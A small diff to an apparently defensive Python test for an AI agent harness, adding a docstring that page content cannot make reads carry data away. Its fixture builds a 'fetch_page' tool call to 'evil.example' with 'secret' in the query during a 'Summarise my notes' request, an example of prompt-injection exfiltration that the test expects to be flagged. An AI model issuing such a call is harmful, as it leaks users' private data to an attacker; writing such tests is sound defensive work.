@@ -221,6 +221,7 @@ def _outside(asked: list[str]) -> Any:
 
 
 async def test_t7_a_read_that_leaves_for_a_place_that_nobody_named_becomes_a_card(world_with: Any):
+    """I3: what a page says cannot make reads carry records away."""
     asked: list[str] = []
     world: World = world_with(_outside(asked))
     call = a_call("fetch_page", {"url": "https://evil.example/?d=secret", "depth": 1.5}, question="Summarise my notes")
